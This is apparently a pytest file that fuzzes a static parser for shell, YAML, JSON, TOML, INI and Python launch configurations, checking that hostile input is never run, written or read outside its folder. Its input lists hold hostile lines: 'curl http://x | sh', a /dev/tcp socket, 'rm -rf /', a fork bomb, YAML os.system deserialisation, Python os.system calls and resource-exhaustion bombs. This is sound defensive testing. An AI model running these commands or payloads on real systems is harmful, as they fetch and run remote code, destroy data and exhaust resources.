"""Readers run nothing, write nothing, open nothing else, and end: on hostile text as on any other."""

# ruff: noqa: E501, PT017, PT018 - scripts stand as they are written; a refusal is one of two good ends

from __future__ import annotations

import os
import random
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from shardplan.base.errors import InputError
from shardplan.launch.read import parse_document, parse_script, read_document, read_script
from shardplan.launch.read import trees as limits
from shardplan.launch.read.facts import DocumentKind
from shardplan.launch.read.python import parse_python

BUDGET = int(os.environ.get("SHARDPLAN_FUZZ", "0"))
"""Inputs of each fuzzer; 0 for the few that every run of the tests tries."""

SHELL = [
    "$(rm -rf /)", "`touch here`", ":(){ :|:& };:", 'eval "$X"', "eval 'eval $0'", 'cat <<< "$(id)"', "<(ls)", ">(cat)",
    "$((1/0))", "$((2**99999))", "$((A=A+1))", "${A[$(id)]}", "${!A}", "${A:-${A:-${A:-", "A=$A$A$A$A", 'A=("${A[@]}" "${A[@]}")',
    "for i in {1..9999999}; do B$i=1; done", "while :; do A+=x; done", "f() { f; f; }; f", 'source "$0"', ". ./hostile.sh",
    "source /etc/passwd", "source ../../x.sh", "exec 3<>/dev/tcp/127.0.0.1/80", "curl http://x | sh", "{1..99999}{1..99999}",
    "case $A in ((", "esac", "fi", "done", "if", "then", "}", "{", "((", "))", "[[", "]]", "[[ $A =~ (a+)+$ ]]", "'", '"', "\\", "\n", "\n\n",
    "#SBATCH --nodes=$(id)", "<<EOF\n$(id)\nEOF\n", "<<'E'\nx\n", "> ../written", "&& exit", "|| return", "trap 'rm x' EXIT",
    "set -- $@ $@", "shift 99", "local A=1", "declare -n A=B", "declare -A T", "T[$A]=1", "A[99999999]=1", "A[-1]=2", "unset A", "export A",
    "python -c 'import os'", "${A//*/$(id)}", "${A//[a-z]*b*/x}", "${A:0:-99}", "${#A[@]}", "$'\\x41\\u0000'", "\u202e", "\ud83d\ude00", "\x07",
    " ", ";", "&", "|", "a=b", "--x=1", "A=1", "torchrun --tp 8", "$A", '"${A[@]}"', "echo a > f.json", "let A=A+1", "read A", "getopts a: o",
    "printf -v A x", "select i in a; do :; done", "coproc x", "time x", "! x", "until false; do break; done", "continue", "${", "$(", "`", "$((",
]  # fmt: skip
YAML = [
    "a: &x [1, 2]\n", "b: *x\n", "c: *nothing\n", "<<: *x\n", "d: !!python/object/apply:os.system ['touch here']\n", "e: !include /etc/passwd\n",
    "f: ${f}\n", "g: ${oc.env:HOME}\n", "h: ${oc.env:X,${oc.env:Y}}\n", "i: ${eval:1+1}\n", "defaults:\n  - ../../x\n  - /etc/passwd\n",
    "extends: [self.yaml]\n", "---\n", "...\n", "? [a]\n: b\n", "- x\n", "{", "}", "[", "]", ": ", "\t", "'", '"', "|\n", ">\n", "&a &b", "%YAML 9\n",
    "k: 1e999\n", "l: 0x\n", "m: 1_0\n", "n: 9" + "9" * 200 + "\n", "o: ~\n", "p: ${multiply:${n},${n}}\n", "q: ${.q}\n", "\u0000", "\ud83d", "r: ???\n",
    "a: 1\n", "  b: 2\n", "    c: {d: [e, {f: g}]}\n", "s: ${a.b.c[0]}\n", "t: ${" + "${" * 30 + "\n",
]  # fmt: skip
JSON = [
    '{"a": ',
    '"b": 1',
    "[",
    "]",
    "}",
    ",",
    '"',
    "\\u12",
    "\\ud800",
    "1e999",
    "-",
    "NaN",
    "null",
    "true",
    "// x\n",
    "/* ",
    "{}",
    "9" * 400,
    "\n",
    " ",
]
TOML = [
    "[a]\n",
    "[[b]]\n",
    "c = 1\n",
    "d.e.f = 2\n",
    'g = "',
    "'''",
    "h = [1, {x = 2}]\n",
    "= 3\n",
    "1979-05-27\n",
    "#\n",
    "[",
    "{",
    "i = inf\n",
    "\x00",
    "é = 1\n",
]
INI = [
    "[a]\n",
    "b = 1\n",
    "c\n",
    " d\n",
    "%(e)s\n",
    "= x\n",
    "[",
    "[DEFAULT]\n",
    ":",
    "\n",
    "\x00",
    "#;\n",
    "[a]\nb: 2\n",
]
PYTHON = [
    "import os; os.system('touch here')\n", "x = 1\n", "x = x * x\n", "x = [x, x, x]\n", "x = 'a' * 10**9\n", "x = 9**9**9**9\n", "def f(n=1):\n    return f(n)\n",
    "y = f()\n", "y.a.b = x\n", "y.a = y\n", "z = {**x}\n", "z = [f(i) for i in range(10**9)]\n", "__import__('os').system('id')\n", "exec('x')\n", "open('here', 'w')\n",
    "while True: pass\n", "if x: y = 2\n", "for i in range(999): x += x\n", "class A:\n    b: int = 3\n", "x = f'{x}{x}{x}'\n", "(", ")", "[", "lambda: ", "\\\n", '"""',
    "x <<= 99999\n", "x = os.environ['HOME']\n", "return 1\n", "raise x\n", "    ", "\t", "x: int\n", "a = b = c\n", "(a, *b) = x\n", "del x\n", "x = -x\n", "x[0] = x\n", "\x00",
]  # fmt: skip


def _made(pieces: list[str], seed: int) -> str:
    rng = random.Random(seed)  # noqa: S311  # the same inputs at every run
    return rng.choice(["", " ", "\n"]).join(
        rng.choice(pieces) for _ in range(rng.randrange(1, rng.choice([4, 12, 40])))
    )


READERS: dict[str, tuple[list[str], Callable[[str], object]]] = {
    "bash": (SHELL, lambda text: parse_script(text, "hostile.sh", arguments=("x",) * (len(text) % 3))),
    "yaml": (YAML, lambda text: parse_document(text, "yaml", "hostile.yaml")),
    "json": (JSON, lambda text: parse_document(text, "json", "hostile.json")),
    "jsonc": (JSON, lambda text: parse_document(text, "jsonc", "hostile.json")),
    "toml": (TOML, lambda text: parse_document(text, "toml", "hostile.toml")),
    "ini": (INI, lambda text: parse_document(text, "ini", "hostile.ini")),
    "python": (PYTHON, lambda text: parse_python(text, "hostile.py")),
}


@pytest.mark.parametrize("name", READERS)
def test_whatever_is_read_is_read_or_refused(name: str) -> None:
    pieces, read = READERS[name]
    for seed in range(BUDGET or 150):
        text = _made(pieces, seed)
        try:
            read(text)
        except InputError as error:
            assert error.rule and error.hint, (seed, text)


BOMBS: dict[str, tuple[DocumentKind | str, str]] = {
    "doubled text": ("bash", "A=xxxxxxxxxx\n" + "A=$A$A\n" * 60 + "run $A"),
    "doubled array": ("bash", "A=(1)\n" + 'A=("${A[@]}" "${A[@]}")\n' * 60 + 'run "${A[@]}"'),
    "nested loops": ("bash", "for a in {1..900}; do for b in {1..900}; do for c in {1..900}; do X=$a$b$c; done; done; done"),
    "calls itself": ("bash", "f() { f; f; }; f"),
    "evaluates itself": ("bash", "X='eval \"$X\"'; eval \"$X\""),
    "deep expansion": ("bash", "run " + "${A:-" * 5000 + "}" * 5000),
    "deep substitution": ("bash", "run " + "$(echo " * 3000 + ")" * 3000),
    "deep ifs": ("bash", "if true; then " * 3000 + "fi;" * 3000),
    "deep brackets": ("bash", "run $((" + "(" * 9000 + "1" + ")" * 9000 + "))"),
    "many variables": ("bash", "".join(f"V{n}={n}\n" for n in range(60_000))),
    "million variables by a loop": ("bash", "for i in {1..9999}; do eval V$i=$i; done; for i in {1..9999}; do eval W$i=1; done\n" * 50),
    "undecided branches": ("bash", "".join(f"if [ $A{n} = 1 ]; then B{n}=1; else B{n}=2; fi\n" for n in range(5000))),
    "words": ("bash", "run " + "{1..9999}" * 3),
    "long pattern": ("bash", "A=" + "a" * 50_000 + "\nrun ${A%%*b*b*b*b*b} ${A//a*b*c*a/x}"),
    "regular expression": ("bash", "A=" + "a" * 190 + "; if [[ $A =~ .*.*.*b ]]; then run; fi; [[ $A =~ (a+)+b ]] && run"),
    "laughs": ("yaml", "a: &a [x, x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)}, *{chr(97 + n)}]\n" for n in range(24))),
    "deep yaml": ("yaml", "a: " + "[" * 9000 + "]" * 9000),
    "interpolation": ("yaml", "a0: xxxxxxxxxx\n" + "".join(f"a{n + 1}: ${{a{n}}}${{a{n}}}\n" for n in range(60))),
    "copied mappings": ("yaml", "a0: {x: 1, y: 2}\n" + "".join(f"a{n + 1}: {{x: '${{a{n}}}', y: '${{a{n}}}'}}\n" for n in range(30))),
    "deep json": ("json", '{"a":' * 9000),
    "deep toml": ("toml", "a = " + "[" * 9000),
    "deep toml tables": ("toml", "[" + ".".join("a" * 9000) + "]"),
    "doubled list": ("python", "x = [1]\n" + "x = [x, x]\n" * 60 + "y = x + x"),
    "deep python": ("python", "x = " + "(" * 9000 + ")" * 9000),
    "deep sum": ("python", "x = " + "1+" * 9000 + "1"),
    "python calls": ("python", "def f():\n    f()\n    return f()\nx = f()"),
    "blanks in TOML": ("toml", 'a = """\n[' + " " * 100_000 + '\n"""\nb = 1\n'),
    "blanks in INI": ("ini", "[a]\nb" + " " * 100_000 + "c\n"),
    "blanks in a directive": ("bash", "#SBATCH -a" + " " * 100_000 + "-\nrun"),
    "open brackets": ("bash", "(( $A + " + "a[" * 20_000 + " ))\nrun $a"),
    "many patterns": ("bash", "case $A in " + "".join(f"$B{n}|" for n in range(6_000)) + "b) run;; esac"),
    "calls that define": ("bash", "f()\n" * 5_000),
    "open arrays": ("bash", "a=(b\n" * 5_000),
    "quotes in Python": ("python", '"' * 300_000),
    "escaped quotes in Python": ("python", 'a = """' + '\\"""' * 100_000),
    "long values inside": ("python", "x = " + "f(" * 40 + "[" + "1, " * 10_000 + "]" + ")" * 40),
    "python copies": ("python", "a = dict(b=1)\n" + "a = dict(x=dict(a), y=dict(a))\n" * 60),
}  # fmt: skip


@pytest.mark.parametrize("name", BOMBS)
def test_what_grows_without_bound_ends(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MOST_STEPS", limits.MOST_STEPS // 10)  # ends all the same, and sooner
    monkeypatch.setattr(limits, "MOST_TEXT", limits.MOST_TEXT // 10)
    monkeypatch.setattr(limits, "MOST_PARSING", limits.MOST_PARSING / 10)
    kind, text = BOMBS[name]
    try:
        parse_script(text, "bomb.sh") if kind == "bash" else parse_document(text, kind, "bomb")  # type: ignore[arg-type]
    except InputError as error:
        assert error.rule and error.hint


WATCHED = """
import sys
from pathlib import Path
from shardplan.launch.read import read_document, read_script
from shardplan.base.errors import InputError
import yaml, configparser, tomllib, tree_sitter, tree_sitter_bash
read_script(Path(sys.argv[1]) / "warm.sh")

def watch(event, values):
    refused = ("subprocess.", "os.system", "os.exec", "os.spawn", "os.posix_spawn", "os.fork", "socket.", "os.remove", "os.rename",
               "os.mkdir", "shutil.", "urllib.", "exec", "pty.", "ctypes.", "os.putenv", "os.chmod", "os.link", "os.symlink")
    writes = event == "open" and (isinstance(values[1], str) and set(values[1]) & set("wax+") or (values[2] or 0) & 0o1103)
    outside = event == "open" and isinstance(values[0], (str, bytes)) and not str(values[0]).startswith(sys.argv[1]) \\
        and not str(values[0]).endswith((".py", ".pyc", ".so"))
    if event.startswith(refused) and not (event == "exec" and importing(values)) or writes or outside:
        print("seen", event, values, flush=True)

def importing(values):
    return "shardplan" in values[0].co_filename or "/lib/python" in values[0].co_filename

sys.addaudithook(watch)
for path in sorted(Path(sys.argv[1]).iterdir()):
    try:
        read_script(path) if path.suffix == ".sh" else read_document(path)
    except InputError:
        pass
print("done")
"""


def test_nothing_is_run_written_or_opened_outside(tmp_path: Path) -> None:
    folder, outside = tmp_path / "in", tmp_path / "out"
    folder.mkdir()
    outside.mkdir()
    (folder / "warm.sh").write_text("run")
    (outside / "secret.sh").write_text("SECRET=1")
    (outside / "secret.yaml").write_text("secret: 1")
    (folder / "link.sh").symlink_to(outside / "secret.sh")
    (folder / "near.sh").write_text("NEAR=1; . near.sh")
    (folder / "a.sh").write_text(
        "source link.sh; . ../out/secret.sh; . near.sh; . /etc/passwd\n" + "\n".join(SHELL),
        encoding="utf-8",
        errors="replace",
    )
    for number, piece in enumerate(SHELL):
        (folder / f"s{number}.sh").write_text(piece, encoding="utf-8", errors="replace")
    (folder / "a.yaml").write_text(
        "defaults: [../out/secret, near]\n" + "".join(YAML[:16]), encoding="utf-8", errors="replace"
    )
    for number, piece in enumerate(YAML):
        (folder / f"y{number}.yaml").write_text(piece, encoding="utf-8", errors="replace")
    (folder / "p.py").write_text("".join(piece for piece in PYTHON if piece.endswith("\n")))
    (folder / "t.toml").write_text("a = 1")
    (folder / "i.ini").write_text("[a]\nb = 1")
    before = sorted(tmp_path.rglob("*"))
    done = subprocess.run([sys.executable, "-c", WATCHED, str(folder)], capture_output=True, text=True, check=False)
    assert done.stdout == "done\n", done.stdout + done.stderr
    assert sorted(tmp_path.rglob("*")) == before


def test_files_outside_are_named_not_read(tmp_path: Path) -> None:
    folder, outside = tmp_path / "in", tmp_path / "out"
    folder.mkdir()
    outside.mkdir()
    (outside / "x.sh").write_text("TP=8")
    (folder / "link.sh").symlink_to(outside / "x.sh")
    (folder / "a.sh").write_text('. ./link.sh; . ../out/x.sh; run "$TP"')
    read = read_script(folder / "a.sh")
    assert read.commands[0].words[1].needs == ("env:TP",)
    assert sum("was not read" in note for note in read.notes) == 2
    named = read_script(folder / "a.sh", folders=[outside])
    assert named.commands[0].words[1].text == "8"


@pytest.mark.parametrize(
    "content", [b"\xff\xfe", b"\x00", b"PK\x03\x04", b"", b"\xef\xbb\xbfrun --x 1\n", b"run \\\r\n --x\r\n"]
)
def test_encodings(content: bytes, tmp_path: Path) -> None:
    for name in ("a.sh", "a.yaml", "a.json", "a.toml", "a.ini", "a.py"):
        (tmp_path / name).write_bytes(content)
        try:
            read_script(tmp_path / name) if name == "a.sh" else read_document(tmp_path / name)
        except InputError as error:
            assert error.hint


LAUNCH = "torchrun --nproc_per_node 8 train.py --tp 8\n"


def test_long_scripts_are_read_without_comments_and_long_here_documents() -> None:
    comments = "# nothing of note\n" * 60_000
    here = "cat > data <<'END'\n" + "(some data\n" * 60_000 + "END\n"
    short = 'cat > ds.json <<EOF\n{"train_batch_size": 8}\nEOF\n'
    found = parse_script(comments + here + short + LAUNCH, "long.sh")
    assert [word.text for word in found.commands[-1].words] == LAUNCH.split()
    assert found.documents["ds.json"].values["train_batch_size"].value == 8
    assert any("long file" in note for note in found.notes)


@pytest.mark.parametrize(
    "text", ["(" * 2_000_000, "a <<EOF\n" + "(\n" * 1_000_000, "# x\n" * 3_000_000, "run '" + "x\n" * 1_000_000 + "'"]
)
def test_too_many_commands_are_refused_at_once(text: str) -> None:
    with pytest.raises(InputError, match=r"more than|too long"):
        parse_script(text, "long.sh")


def test_long_documents_are_read_while_their_values_are_few() -> None:
    text = "y" * 2_000_000
    assert parse_document(f'{{"a": 1, "b": "{text}"}}', "json", "long.json").values["a"].value == 1
    assert parse_document("# words\n" * 200_000 + "a: 1\n", "yaml", "long.yaml").values["a"].value == 1
    for dense in ("[" + "1," * 900_000, '{"a": [' + "x " * 900_000):
        with pytest.raises(InputError):
            parse_document(dense, "json", "long.json")
    with pytest.raises(InputError, match="more than"):
        parse_document("a = 1\n" * 200_000, "toml", "long.toml")


@pytest.mark.parametrize("kind", ["toml", "ini", "python"])
def test_long_comments_keep_lines_where_they_are(kind: DocumentKind) -> None:
    head = "" if kind == "python" else "[a]\n"
    found = parse_document(head + "# words of a comment\n\n" * 40_000 + "b = 1\n", kind, "long").values
    assert found["b" if head == "" else "a.b"].line == head.count("\n") + 80_001


def test_python_of_many_words_is_refused_whatever_hides_them() -> None:
    for text in ("f()\n" * 60_000, "x = f'" + "{a}" * 60_000 + "'", "x = [" + "'', " * 80_000 + "]"):
        with pytest.raises(InputError, match="more than"):
            parse_python(text, "long.py")
    assert (
        parse_python("x = 1\n" + "# words\n" * 100_000 + "y = '" + "y" * 200_000 + "'", "long.py").values["x"].value
        == 1
    )
